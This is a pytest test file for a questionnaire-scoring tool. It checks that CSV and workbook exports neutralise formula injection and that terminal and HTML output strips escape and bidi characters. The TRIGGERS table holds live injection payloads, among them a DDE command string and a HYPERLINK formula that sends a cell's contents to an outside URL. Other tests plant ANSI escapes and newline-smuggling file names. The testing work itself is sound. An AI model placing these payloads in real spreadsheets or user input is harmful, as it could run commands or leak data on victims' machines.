"""Texts made to harm: none becomes a formula in a spreadsheet, none moves a terminal's cursor or turns its text."""

import csv
import io
import re
import sys
from dataclasses import dataclass

import openpyxl
import pytest

from benchmark.console import visible
from benchmark.outputs.rows import csv_bytes
from benchmark.outputs.tidy_sheets import TENTHS, Field, Table, make_book
from benchmark.workbooks.results import save_book
from tests.command import run, run_well

TRIGGERS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1)",
    "tab": "\t=1",
    "return": "\r=1",
    "line": "\n=1",
    "nul": "\0=1",
    "wide equals": "\uff1d1+1",
    "wide plus": "\uff0b1+1",
    "wide minus": "\uff0d1+1",
    "wide at": "\uff20SUM(1)",
    "small plus": "\ufe62=1",
    "link": '=HYPERLINK("https://example.org/?"&A1,"press")',
    "command": "=cmd|' /C calc'!A0",
}
POSITIONS = {
    "first": "{}",
    "after a space": " {}",
    "after spaces": "   {}",
    "after a hard space": "\u00a0{}",
    "after a wide space": "\u3000{}",
    "after a mark": "\ufeff{}",
    "after nothing to see": "\u200b{}",
    "after a turn": "\u202e{}",
}
CASES = [(trigger, position) for trigger in TRIGGERS for position in POSITIONS]
FORMULA = re.compile(r"[\s\0\ufeff\u200b\u202e]*[=+@\-\uff1d\uff0b\uff0d\uff20\ufe62]")


def planted(case: tuple[str, str]) -> str:
    return POSITIONS[case[1]].format(TRIGGERS[case[0]])


@dataclass(frozen=True)
class Row:
    title: str
    other: str
    score: float


@pytest.mark.parametrize("case", CASES, ids="-".join)
def test_no_cell_of_a_csv_begins_like_a_formula(case):
    text = planted(case)
    cells = list(csv.reader(io.StringIO(csv_bytes([Row(text, "plain", -3.5)]).decode("utf-8-sig"), newline="")))[1]
    # A carriage return of its own would begin a new row, with the formula as its first cell.
    assert cells == ["'" + text.replace("\r", "\n"), "plain", "-3.5"]


@pytest.mark.parametrize("case", CASES, ids="-".join)
def test_no_cell_of_a_workbook_is_a_formula(tmp_path, case):
    text = planted(case).replace("\0", "")
    book = make_book([Table("Planted", (Field("title", "Any."), Field("score", "Any.", TENTHS)), [(text, -3.5)])])
    save_book(book, tmp_path / "a.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "a.xlsx")["Planted"]
    assert [cell.data_type for row in sheet.iter_rows() for cell in row] == ["s", "s", "s", "n"]
    assert not FORMULA.match(sheet["A2"].value)
    assert sheet["B2"].value == -3.5


def test_no_respondent_in_the_scores_begins_like_a_formula(tmp_path):
    texts = [planted(case) for case in CASES if case[0] != "nul"]
    # A name loses the space around it when it is read.
    names = list(dict.fromkeys(text.strip() for text in texts))
    with (tmp_path / "a.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["respondent", "redesigned-services"], *([name, "1"] for name in names)])
    run_well("score", "--set", "quick-check", "--answers", "a.csv", "-o", "b.csv", cwd=tmp_path)
    with (tmp_path / "b.csv").open(encoding="utf-8", newline="") as file:
        found = [row[0] for row in csv.reader(file)][1:]
    assert found == ["'" + name.replace("\r", "\n") for name in names]
    assert [name for name in found if FORMULA.match(name)] == []


FACTS = ["--attribute", "council-type=unitary", "--attribute", "population-band=under-100k"]
HARM = "a\x1b[2Jb\x07c\x9b31md\u202ee\u2066f\u200fg\x7fh\u2028i\ufeffj\rk\ud800l"


def test_what_nobody_sees_is_taken_out():
    assert visible(HARM) == "a[2Jbc31mdefghijkl"
    assert visible("Zo\u00eb\tSi\u00e2n\n\u65e5\u672c \U0001f469\u200d\U0001f4bb \u00a0") == (
        "Zo\u00eb\tSi\u00e2n\n\u65e5\u672c \U0001f469\u200d\U0001f4bb \u00a0"
    )
    assert visible("\x1b[1mbold\x1b[0m\x1b[31m", styles=True) == "\x1b[1mbold\x1b[0m[31m"
    assert visible("\x1b[1mbold\x1b[0m") == "bold"


UNSEEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]")


def test_of_all_characters_only_these_are_taken_out():
    ranges = "0-8 b-1f 7f-9f 61c-61c 200e-200f 2028-202e 2066-2069 feff-feff d800-dfff"
    ends = [[int(end, 16) for end in one.split("-")] for one in ranges.split()]
    unseen = {chr(at) for first, last in ends for at in range(first, last + 1)}
    assert {sign for sign in map(chr, range(sys.maxunicode + 1)) if visible(sign) != sign} == unseen


def test_nothing_in_a_question_set_or_a_council_reaches_the_terminal_raw(tmp_path):
    harm = "x\\u001b[2J\\u0007\\u202e\\u2066\\u009b\\u200f"
    (tmp_path / "hostile.toml").write_text(
        f"""format = "questionnaire/1"
id = "hostile"
version = "1"
title = "Title {harm}"
about = "About {harm}"
[[section]]
id = "s"
title = "Section {harm}"
[[question]]
id = "q"
section = "s"
text = "Question {harm}"
levels = ["No {harm}", "Yes {harm}"]
next = ["Step {harm}"]
""",
        encoding="utf-8",
    )
    run_well(
        "init", "--name", "Am\u202ebleford", "--set", "hostile.toml", "--network", "n", "--round", "r", cwd=tmp_path
    )
    commands = [
        ("questions", "show", "hostile.toml"),
        ("assess", "--plain", "--set", "hostile.toml"),
        ("score", "--set", "hostile.toml"),
        ("score", "--set", "hostile.toml", "--json"),
        ("report", "--set", "hostile.toml", "--with-notes"),
    ]
    for command in commands:
        done = run(*command, cwd=tmp_path, text="0\no\nNote \x1b[2J\u202e\n\n" if command[0] == "assess" else "")
        assert done.returncode == 0, done.stderr
        assert not UNSEEN.search(done.stdout + done.stderr), command
    (page,) = (tmp_path / "r").glob("*-report.html")
    text = page.read_text(encoding="utf-8")
    assert "Question x[2J" in text
    assert "Note [2J" in text
    assert not UNSEEN.search(text)


def test_a_fault_stays_one_line_whatever_it_quotes(tmp_path):
    """A key in somebody's file, or the file's own name, must not pass for a line of the program."""
    path = tmp_path / "a\nFine.toml"
    path.write_text('"x\\nAll is well.\\u001b[2J\\u202e" = 1\n', encoding="utf-8")
    done = run("questions", "check", path, cwd=tmp_path)
    assert done.returncode == 3
    lines = done.stderr.rstrip("\n").split("\n")
    assert all("a Fine.toml, " in line and line.isprintable() for line in lines)
    assert '"x All is well.?[2J?" is not known here.' in lines[0]


LONG = "x" * 5000
UNUSABLE_NAMES = {
    "folder": (["score", "--folder", LONG], 3),
    "new folder": (["demo", "-o", LONG], 3),
    "pool": (["pool", "show", LONG], 3),
    "pools": (["pool", "merge", LONG, "-o", "a.pool.jsonl"], 3),
    "network": (["network", "inbox", "--folder", LONG], 3),
    "question set": (["score", "--set", LONG], 2),
    "invitation": (["join", LONG], 3),
    "pair": (["pair", LONG, LONG], 3),
}


@pytest.mark.parametrize("name", UNUSABLE_NAMES)
def test_a_name_that_no_file_can_have_is_refused_in_words(tmp_path, name):
    arguments, code = UNUSABLE_NAMES[name]
    if name == "invitation":
        run_well("init", "--name", "A", *FACTS, "--network", "n", "--round", "r", cwd=tmp_path)
    done = run(*arguments, cwd=tmp_path)
    assert done.returncode == code, done.stderr[-300:]
    assert "Traceback" not in done.stderr
    assert done.stderr.rstrip("\n").endswith(".")
